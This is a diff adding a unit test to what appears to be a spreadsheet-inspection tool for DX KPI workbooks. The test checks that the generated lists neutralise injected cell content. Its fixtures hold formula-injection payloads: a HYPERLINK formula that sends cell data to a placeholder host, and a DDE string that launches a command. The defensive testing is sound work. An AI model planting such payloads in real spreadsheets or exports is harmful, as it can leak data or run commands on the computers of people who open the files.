@@ -68,6 +68,29 @@ test('the list for a mail', () => {
   ]);
 });
 
+test('lines, tabs and formulas that stand in a cell make no line of the list, and none of it begins as a formula would', () => {
+  const evil = '多重入力\n=HYPERLINK("http://example.invalid/?"&A1,"押す")\t=1+1';
+  const found = finish(
+    inspectWorkbook(
+      workbookState({
+        DX_KPIs: cellsOf('DX_KPIs', [
+          { ...HOURS, 名称: evil, 目標2030: '約110万時間', 担当: '課\r\n=2+2' },
+          { ...ENTRIES, 目標2040: '\n+3+3', 担当: "\n=cmd|'/C calc'!A0" },
+        ]),
+        DX_Actuals: cellsOf('DX_Actuals', [actual(evil, 2025, 350000)]),
+      }),
+      AS_OF,
+    ),
+  );
+  for (const words of [ja, en])
+    for (const by of ['sheet', 'division'] as const) {
+      const list = plainList(remarkGroups(found.remarks, by, words), found, words, '、');
+      expect(list).toContain('=HYPERLINK');
+      expect(list).not.toContain('\t');
+      expect(list.split('\n').filter(line => !/^(?:点検結果|Check|要修正|To |■|\d+\. | {3}|$)/.test(line))).toEqual([]);
+    }
+});
+
 test('a charter’s rule is quoted with document, article and sentence', () => {
   const rows = rowsOfAll([OSAKA]);
   const members = (rows.DX_Members ?? []).map(row => (row.role === '幹事' ? { ...row, post: '財政局長' } : row));
